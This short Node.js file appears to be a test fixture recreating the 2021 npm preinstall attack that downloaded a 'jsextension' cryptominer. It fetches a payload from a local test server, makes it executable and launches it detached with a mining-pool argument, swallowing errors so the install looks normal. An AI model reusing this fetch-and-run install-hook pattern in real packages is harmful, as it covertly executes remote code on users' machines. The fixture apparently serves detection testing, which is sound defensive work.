// The 2021 preinstall fetched `jsextension` from a hard-coded host, made it executable and started it.
// Here the "miner" is a shell script served by the test; if it ever runs it leaves marker files.
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const http = require('node:http');
const { spawn } = require('node:child_process');

const PAYLOAD = 'http://127.0.0.1:__PAYLOAD_PORT__/jsextension';
const binary = path.join(os.tmpdir(), 'jsextension');
http
  .get(PAYLOAD, (response) => {
    const file = fs.createWriteStream(binary, { mode: 0o755 });
    response.pipe(file);
    file.on('finish', () => {
      file.close();
      // Detached, as the miner was, so it outlives npm.
      spawn(binary, ['-o', 'pool.minexmr.com:443'], { detached: true, stdio: 'ignore' }).unref();
    });
  })
  .on('error', () => {
    // Fail quietly: the install must look normal.
  });
